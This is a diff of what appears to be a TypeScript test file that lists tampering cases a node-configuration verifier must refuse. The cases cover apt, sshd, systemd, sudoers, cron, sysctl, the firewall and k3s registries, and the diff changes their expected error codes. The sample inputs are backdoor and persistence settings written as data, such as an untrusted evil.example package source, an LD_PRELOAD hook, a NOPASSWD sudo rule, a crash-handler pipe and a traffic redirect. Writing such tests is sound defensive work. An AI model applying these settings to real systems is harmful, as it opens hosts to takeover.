@@ -21,68 +21,71 @@ const put = (path: string, text: string) => ({
 
 /** What other programs of a node are told. */
 export const nodePrograms: SabotagesOfKind = [
-  refused('apt runs a command before it asks for packages', 'verify/TODO', {
+  refused('apt runs a command before it asks for packages', 'verify/node-file-wrong', {
     file: apt,
     put: 'APT::Update::Pre-Invoke { "id"; };\n',
   }),
-  refused('apt runs a command after it installed', 'verify/TODO', {
+  refused('apt runs a command after it installed', 'verify/node-file-wrong', {
     file: apt,
     put: 'DPkg::Post-Invoke { "id"; };\n',
   }),
-  refused('apt asks by a proxy', 'verify/TODO', {
+  refused('apt asks by a proxy', 'verify/node-file-wrong', {
     file: apt,
     put: 'Acquire::http::Proxy "http://203.0.113.66:3128";\n',
   }),
-  refused('apt takes packages that nobody signed', 'verify/TODO', {
+  refused('apt takes packages that nobody signed', 'verify/node-file-wrong', {
     file: apt,
     put: 'APT::Get::AllowUnauthenticated "true";\n',
   }),
-  refused('apt takes lists that nobody signed', 'verify/TODO', {
+  refused('apt takes lists that nobody signed', 'verify/node-file-wrong', {
     file: apt,
     put: 'Acquire::AllowInsecureRepositories "true";\n',
   }),
-  refused('apt believes any certificate', 'verify/TODO', {
+  refused('apt believes any certificate', 'verify/node-file-wrong', {
     file: apt,
     put: 'Acquire::https::Verify-Peer "false";\n',
   }),
-  refused('apt reads more', 'verify/TODO', { file: apt, put: '#include "/tmp/apt.conf"\n' }),
-  refused('no security updates', 'verify/TODO', {
+  refused('apt reads more', 'verify/node-file-wrong', { file: apt, put: '#include "/tmp/apt.conf"\n' }),
+  refused('no security updates', 'verify/node-file-wrong', {
     file: apt,
     find: 'Unattended-Upgrade "1"',
     put: 'Unattended-Upgrade "0"',
   }),
-  refused('security updates that restart the node', 'verify/TODO', {
+  refused('security updates that restart the node', 'verify/node-file-wrong', {
     file: apt,
     put: 'Unattended-Upgrade::Automatic-Reboot "true";\n',
   }),
-  refused('apt forgets a setting again', 'verify/TODO', { file: apt, put: '#clear APT::Periodic;\n' }),
+  refused('apt forgets a setting again', 'verify/node-file-wrong', {
+    file: apt,
+    put: '#clear APT::Periodic;\n',
+  }),
   refused(
     'another origin of updates',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: '/etc/apt/apt.conf.d/52fjord-nginx', find: 'origin=nginx', put: 'origin=*' },
     every,
   ),
   refused(
     'every package from nginx.org first',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: preferences, find: 'Pin-Priority: 100', put: 'Pin-Priority: 1001' },
     every,
   ),
   refused(
     'a package of another place first',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: preferences, put: '\nPackage: *\nPin: origin "evil.example"\nPin-Priority: 1001\n' },
     every,
   ),
   refused(
     'packages that nobody need have signed',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: sources, put: 'Trusted: yes\n' },
     every,
   ),
   refused(
     'a second source of packages',
-    'verify/TODO',
+    'verify/node-file-wrong',
     {
       file: sources,
       put: '\nTypes: deb\nURIs: http://evil.example\nSuites: trixie\nComponents: main\nTrusted: yes\n',
@@ -91,7 +94,7 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'packages from two places',
-    'verify/TODO',
+    'verify/node-file-wrong',
     {
       file: sources,
       find: 'URIs: https://mirror.example.fi/nginx/packages/debian',
@@ -101,95 +104,98 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'sshd lets root in by password',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: sshd, put: 'PermitRootLogin yes\nPasswordAuthentication yes\n' },
     every,
   ),
   refused(
     'sshd runs a command for who logs in',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: sshd, put: 'ForceCommand id\n' },
     every,
   ),
   refused(
     'sshd asks a command which keys are good',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: sshd, put: 'AuthorizedKeysCommand /tmp/keys\nAuthorizedKeysCommandUser root\n' },
     every,
   ),
   refused(
     'sshd reads keys that all may write',
-    'verify/TODO',
+    'verify/node-file-wrong',
     { file: sshd, put: 'AuthorizedKeysFile /tmp/keys\n' },
     every,
   ),
-  refused('sshd at a second port', 'verify/TODO', { file: sshd, put: 'Port 23\n' }, every),
+  refused('sshd at a second port', 'verify/node-file-wrong', { file: sshd, put: 'Port 23\n' }, every),
   refused(
     'sshd at another port than the lock file says',
-    'verify/TODO',
+    'verify/not-as-meant',
     { file: sshd, find: 'Port 2222', put: 'Port 2022' },
     every,
   ),
-  refused('the certificate unit runs more', 'verify/TODO', {
+  refused('the certificate unit runs more', 'verify/node-file-wrong', {
     file: unit,
     find: 'ExecStart=/usr/local/sbin/openfaas-tls issue\n',
     put: 'ExecStart=/usr/local/sbin/openfaas-tls issue\nExecStartPost=/bin/id\n',
   }),
-  refused('the certificate unit reads variables', 'verify/TODO', {
+  refused('the certificate unit reads variables', 'verify/node-file-wrong', {
     file: unit,
     find: '[Install]',
     put: 'Environment=LD_PRELOAD=/tmp/evil.so\n\n[Install]',
   }),
-  refused("nginx' unit runs more as root", 'verify/TODO', { file: dropIn, put: 'ExecStartPre=/bin/id\n' }),
-  refused("nginx' unit keeps rights", 'verify/TODO', {
+  refused("nginx' unit runs more as root", 'verify/node-file-wrong', {
+    file: dropIn,
+    put: 'ExecStartPre=/bin/id\n',
+  }),
+  refused("nginx' unit keeps rights", 'verify/node-file-wrong', {
     file: dropIn,
     put: 'AmbientCapabilities=CAP_SYS_ADMIN\n',
   }),
-  refused("nginx' unit runs another conf", 'verify/TODO', {
+  refused("nginx' unit runs another conf", 'verify/node-file-wrong', {
     file: dropIn,
     find: "-g 'daemon on; master_process on;'",
     put: "-g 'daemon on; master_process on;' -c /tmp/nginx.conf",
   }),
   refused(
     'a unit of somebody',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/systemd/system/more.service', '[Service]\nExecStart=/bin/id\n'),
   ),
   refused(
     'a drop-in for sshd',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/systemd/system/ssh.service.d/fjord.conf', '[Service]\nExecStartPre=/bin/id\n'),
   ),
-  refused('a cron table', 'verify/TODO', put('/etc/cron.d/more', '* * * * * root id\n')),
-  refused('a rule of sudo', 'verify/TODO', put('/etc/sudoers.d/more', 'www-data ALL=(ALL) NOPASSWD:ALL\n')),
+  refused('a cron table', 'verify/schema', put('/etc/cron.d/more', '* * * * * root id\n')),
+  refused('a rule of sudo', 'verify/schema', put('/etc/sudoers.d/more', 'www-data ALL=(ALL) NOPASSWD:ALL\n')),
   refused(
     'a hook of certbot',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/letsencrypt/renewal-hooks/deploy/more', '#!/bin/sh\nid\n'),
   ),
   refused(
     'a script of logrotate',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/logrotate.d/more', '/var/log/x {\n  postrotate\n    id\n  endscript\n}\n'),
   ),
   refused(
     'a second conf of apt',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/apt/apt.conf.d/99more', 'APT::Update::Pre-Invoke { "id"; };\n'),
   ),
   refused(
     'a second drop-in of sshd',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/ssh/sshd_config.d/99-more.conf', 'PermitRootLogin yes\n'),
   ),
   refused(
     'a second drop-in of the kernel',
-    'verify/TODO',
+    'verify/schema',
     put('/etc/sysctl.d/zz-more.conf', 'net.ipv4.ip_forward = 0\n'),
   ),
   refused(
     'a second conf of nginx',
-    'verify/TODO',
+    'verify/schema',
     put(
       '/etc/nginx/conf.d/more.conf',
       'server {\n    listen 127.0.0.1:81;\n    location / {\n        return 404;\n    }\n}\n',
@@ -197,82 +203,89 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'a manifest that nobody sees',
-    'verify/TODO',
+    'verify/schema',
     put(
       '/var/lib/rancher/k3s/server/manifests/more.yaml',
       'apiVersion: v1\nkind: Namespace\nmetadata:\n  name: more\n',
     ),
   ),
-  refused('a second script of root', 'verify/TODO', put('/usr/local/sbin/more', '#!/bin/bash\nid\n')),
+  refused('a second script of root', 'verify/schema', put('/usr/local/sbin/more', '#!/bin/bash\nid\n')),
   refused(
     'a registries file that nobody sees',
-    'verify/TODO',
+    'verify/not-as-meant',
     put(
       '/etc/rancher/k3s/registries.yaml',
       'mirrors:\n  docker.io:\n    endpoint:\n      - https://evil.example\n',
     ),
   ),
-  refused('modules of the kernel that do not matter to us', 'verify/TODO', {
+  refused('modules of the kernel that do not matter to us', 'verify/node-file-wrong', {
     file: modules,
     put: 'usbnet\n',
   }),
-  refused('a module of the kernel by its path', 'verify/TODO', { file: modules, put: '/tmp/evil.ko\n' }),
-  refused('the kernel runs a program for each crash', 'verify/TODO', {
+  refused('a module of the kernel by its path', 'verify/node-file-wrong', {
+    file: modules,
+    put: '/tmp/evil.ko\n',
+  }),
+  refused('the kernel runs a program for each crash', 'verify/schema', {
     file: sysctl,
     put: '\n# as the config says\nkernel.core_pattern = |/tmp/evil\n',
   }),
-  refused('the kernel loads modules by another program', 'verify/TODO', {
+  refused('the kernel loads modules by another program', 'verify/not-as-meant', {
     file: sysctl,
     put: '\n# as the config says\nkernel.modprobe = tmp-evil\n',
   }),
-  refused('the kernel lets users trace each other', 'verify/TODO', {
+  refused('the kernel lets users trace each other', 'verify/not-as-meant', {
     file: sysctl,
     put: '\n# as the config says\nkernel.yama.ptrace_scope = 0\n',
   }),
-  refused('the kernel follows redirects', 'verify/TODO', {
+  refused('the kernel follows redirects', 'verify/not-as-meant', {
     file: sysctl,
     put: '\n# as the config says\nnet.ipv4.conf.all.accept_redirects = 1\n',
   }),
-  refused('the kernel shows its addresses', 'verify/TODO', {
+  refused('the kernel shows its addresses', 'verify/not-as-meant', {
     file: sysctl,
     put: '\n# as the config says\nkernel.kptr_restrict = 0\n',
   }),
-  refused('the kernel forwards nothing', 'verify/TODO', {
+  refused('the kernel forwards nothing', 'verify/not-as-meant', {
     file: sysctl,
     put: '\n# as the config says\nnet.ipv4.ip_forward = 0\n',
   }),
-  refused('all ports are open', 'verify/TODO', { file: firewall, find: 'policy drop', put: 'policy accept' }),
-  refused('one port is open to all', 'verify/TODO', {
+  refused('all ports are open', 'verify/socket-open', {
+    file: firewall,
+    find: 'policy drop',
+    put: 'policy accept',
+  }),
+  refused('one port is open to all', 'verify/socket-open', {
     file: firewall,
     find: '{ 22, 80, 443 }',
     put: '{ 22, 80, 443, 6443 }',
   }),
-  refused('one address may open everything', 'verify/TODO', {
+  refused('one address may open everything', 'verify/socket-open', {
     file: firewall,
     find: '    tcp dport { 22',
     put: '    ip saddr 203.0.113.66 accept\n    tcp dport { 22',
   }),
-  refused('what comes for port 80 goes elsewhere', 'verify/TODO', {
+  refused('what comes for port 80 goes elsewhere', 'verify/socket-open', {
     file: firewall,
     put: 'table ip more {\n  chain prerouting {\n    type nat hook prerouting priority dstnat;\n    tcp dport 80 dnat to 203.0.113.66\n  }\n}\n',
   }),
-  refused("K3s' rules are flushed", 'verify/TODO', {
+  refused("K3s' rules are flushed", 'verify/socket-open', {
     file: firewall,
     find: 'table inet fjord\ndelete',
     put: 'flush ruleset\ntable inet fjord\ndelete',
   }),
-  refused('the firewall includes a file', 'verify/TODO', {
+  refused('the firewall includes a file', 'verify/socket-open', {
     file: firewall,
     put: 'include "/tmp/more.nft"\n',
   }),
-  refused('a pod of any address is believed', 'verify/TODO', {
+  refused('a pod of any address is believed', 'verify/script-edited', {
     file: firewall,
     find: 'iifname cni0 ip saddr 10.42.0.0/16 accept',
     put: 'iifname cni0 ip saddr 10.42.0.0/16 accept\n    ip saddr 10.42.0.0/16 accept',
   }),
   refused(
     'images from a mirror of somebody',
-    'verify/TODO',
+    'verify/not-as-meant',
     {
       file: registries,
       find: '      - https://mirror.example.fr\n',
@@ -282,13 +295,13 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'images from a mirror whose certificate is not checked',
-    'verify/TODO',
+    'verify/schema',
     { file: registries, put: 'configs:\n  mirror.example.fr:\n    tls:\n      insecure_skip_verify: true\n' },
     several,
   ),
   refused(
     'images by a password',
-    'verify/TODO',
+    'verify/schema',
     {
       file: registries,
       put: 'configs:\n  mirror.example.fr:\n    auth:\n      username: a\n      password: b\n',
@@ -297,7 +310,7 @@ export const nodePrograms: SabotagesOfKind = [
   ),
   refused(
     'images under another name',
-    'verify/TODO',
+    'verify/not-as-meant',
     { file: registries, find: '"hub/$1"', put: '"evil/$1"' },
     several,
   ),
